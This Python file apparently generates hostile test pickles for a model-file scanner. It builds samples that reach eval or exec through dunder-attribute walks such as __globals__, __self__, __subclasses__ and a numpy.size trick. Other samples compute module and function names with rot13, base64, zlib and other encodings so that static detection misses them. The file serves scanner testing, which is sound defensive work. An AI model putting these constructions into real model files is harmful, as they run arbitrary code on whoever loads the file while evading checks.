"""Walks through dunder attributes, and names that the pickle computes (B007, B008)."""

import base64
import codecs
import zlib
from collections.abc import Iterator

from tests.samples import assembler as asm
from tests.samples.assembler import Raw, call, calls, literal, pickle, stack_global
from tests.samples.sample import UNPROVEN, Payload, Row, Sample, rows

GETATTR = stack_global("builtins", "getattr")


def then(function: bytes, payload: Payload) -> bytes:
    """Call what `function` leaves on the stack with the payload's argument."""
    return pickle(call(function, payload.text()))


DUNDERS: tuple[Row, ...] = (
    (
        "function-builtins",
        lambda p: pickle(call(calls("collections", "namedtuple.__builtins__.get", "eval"), literal(p.source))),
        "A function's __builtins__ holds eval; no dangerous module is named.",
    ),
    (
        "function-globals",
        lambda p: pickle(
            call(
                call(
                    stack_global("operator", "getitem"),
                    calls("copyreg", "_reconstructor.__globals__.get", "__builtins__"),
                    literal("eval"),
                ),
                literal(p.source),
            )
        ),
        "A function's __globals__ holds __builtins__, which holds eval.",
    ),
    (
        "print-self",
        lambda p: pickle(call(stack_global("builtins", "print.__self__.eval"), literal(p.source))),
        "A built-in function's __self__ is the builtins module.",
    ),
    (
        "len-self-exec",
        lambda p: pickle(call(stack_global("builtins", "len.__self__.exec"), literal(p.source))),
        "The same walk to exec.",
    ),
    (
        "self-dict-getitem",
        lambda p: pickle(call(calls("builtins", "print.__self__.__dict__.__getitem__", "eval"), literal(p.source))),
        "The builtins module's dict gives eval by a string.",
    ),
    (
        "builtins-dict-get",
        lambda p: pickle(call(calls("builtins", "__dict__.get", "eval"), literal(p.source))),
        "builtins.__dict__.get, the shortest walk.",
    ),
    (
        "class-method-globals",
        lambda p: pickle(
            call(
                call(
                    stack_global("operator", "getitem"),
                    calls("fractions", "Fraction.limit_denominator.__globals__.get", "__builtins__"),
                    literal("exec"),
                ),
                literal(p.source),
            )
        ),
        "A method of an ordinary class leads to its module's globals.",
    ),
    (
        "setattr-on-builtins",
        lambda p: pickle(
            calls("builtins", "__setattr__", "payload", calls("builtins", "print.__self__.__dict__.get", "eval"))
            + asm.POP
            + call(stack_global("builtins", "payload"), literal(p.source))
        ),
        "builtins.__setattr__ plants a name that a later GLOBAL reads.",
    ),
    (
        "subclasses-chain",
        lambda p: pickle(
            calls("builtins", "__setattr__", "subclasses", calls("builtins", "print.__class__.__base__.__subclasses__"))
            + asm.POP
            + calls("builtins", "subclasses.__len__")
            + asm.POP
            + call(calls("builtins", "__dict__.get", "eval"), literal(p.source))
        ),
        "object.__subclasses__() kept in builtins, as seen on a public hub, then eval.",
    ),
    (
        "type-mro-subclasses",
        lambda p: pickle(
            calls("builtins", "int.__base__.__subclasses__")
            + asm.POP
            + call(stack_global("builtins", "abs.__self__.eval"), literal(p.source))
        ),
        "The walk to object's subclasses is named and called before the real payload.",
    ),
)


def numpy_size(payload: Payload) -> bytes:
    """BUILD gives the function numpy.size an attribute `shape`; numpy.size(numpy.size, 'eval') reads it."""
    return pickle(
        stack_global("numpy", "size")
        + asm.MEMOIZE
        + asm.NONE
        + asm.EMPTY_DICT
        + literal("shape")
        + stack_global("builtins", "__dict__")
        + asm.SETITEM
        + asm.TUPLE2
        + asm.BUILD
        + asm.POP
        + call(call(asm.binget(0), asm.binget(0), literal("eval")), literal(payload.source))
    )


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def _computed(module: bytes, name: bytes, payload: Payload) -> bytes:
    return then(module + name + asm.STACK_GLOBAL, payload)


COMPUTERS = {
    "str-join": lambda t: calls("builtins", "str.join", "", list(t)),
    "rot13": lambda t: calls("_codecs", "decode", _rot13(t), "rot13"),
    "codecs-encode-rot13": lambda t: calls("codecs", "encode", _rot13(t), "rot13"),
    "hex": lambda t: calls("builtins", "bytes.decode", calls("builtins", "bytes.fromhex", t.encode().hex())),
    "base64": lambda t: calls(
        "builtins", "bytes.decode", calls("base64", "b64decode", base64.b64encode(t.encode()).decode())
    ),
    "zlib": lambda t: calls("builtins", "bytes.decode", calls("zlib", "decompress", zlib.compress(t.encode()))),
    "replace": lambda t: calls("builtins", "str.replace", t[0] + "_" + t[1:], "_", ""),
    "lower": lambda t: calls("builtins", "str.lower", t.upper()),
    "reverse": lambda t: calls("operator", "getitem", t[::-1], calls("builtins", "slice", None, None, -1)),
    "operator-add": lambda t: calls("operator", "add", t[:1], t[1:]),
    "operator-concat": lambda t: calls("_operator", "concat", t[:1], t[1:]),
    "format": lambda t: calls("builtins", "str.format", "{}{}", t[:1], t[1:]),
    "percent": lambda t: calls("operator", "mod", "%s" + t[1:], t[:1]),
    "chr-map": lambda t: calls(
        "builtins", "str.join", "", calls("builtins", "map", Raw(stack_global("builtins", "chr")), list(t.encode()))
    ),
    "unhexlify": lambda t: calls("codecs", "decode", calls("binascii", "unhexlify", t.encode().hex()), "ascii"),
    "unquote": lambda t: calls("urllib.parse", "unquote", "".join(f"%{c:02x}" for c in t.encode())),
    "unescape": lambda t: calls("html", "unescape", "".join(f"&#{ord(c)};" for c in t)),
    "dedent": lambda t: calls("textwrap", "dedent", "  " + t),
    "basename": lambda t: calls("posixpath", "basename", "/models/" + t),
    "json": lambda t: calls("json", "loads", f'"{t}"'),
    "literal-eval": lambda t: calls("ast", "literal_eval", repr(t)),
    "str-of-bytes": lambda t: calls("builtins", "str", t.encode(), "ascii"),
    "getattr-join": lambda t: Raw(
        call(call(GETATTR, stack_global("builtins", "str"), literal("join")), literal(""), literal(list(t)))
    ),
}


def computed() -> Iterator[Sample]:
    """Module and attribute names that other calls produce (modelscan issue 331)."""
    for name, computer in COMPUTERS.items():
        yield Sample(
            f"B008-{name}",
            "B008",
            "model.pkl",
            lambda p, computer=computer: _computed(computer(p.module), computer(p.name), p),
            f"STACK_GLOBAL takes its names from calls ({name}), not from strings in the file.",
        )
    yield Sample(
        "B008-attribute-only",
        "B008",
        "model.pkl",
        lambda p: _computed(literal(p.module), COMPUTERS["str-join"](p.name), p),
        "Only the attribute's name is computed.",
    )
    yield Sample(
        "B008-eval-source-joined",
        "B008",
        "model.pkl",
        lambda p: pickle(calls("builtins", "eval", calls("builtins", "str.join", "", list(p.source)))),
        "eval is named, its source is computed.",
    )
    yield Sample(
        "B008-eval-name-computed",
        "B008",
        "model.pkl",
        lambda p: pickle(
            call(COMPUTERS["reverse"]("builtins") + COMPUTERS["rot13"]("eval") + asm.STACK_GLOBAL, literal(p.source))
        ),
        "The names of eval itself are computed, by two different means.",
    )


def hostile() -> Iterator[Sample]:
    """All of this family."""
    yield from rows("B007", DUNDERS)
    yield Sample(
        "B007-numpy-size-shape",
        "B007",
        "model.pkl",
        numpy_size,
        f"numpy.size looks eval up for the pickle (modelscan issue 330).{UNPROVEN}newer numpy checks the axis.",
        loader="",
    )
    yield from computed()
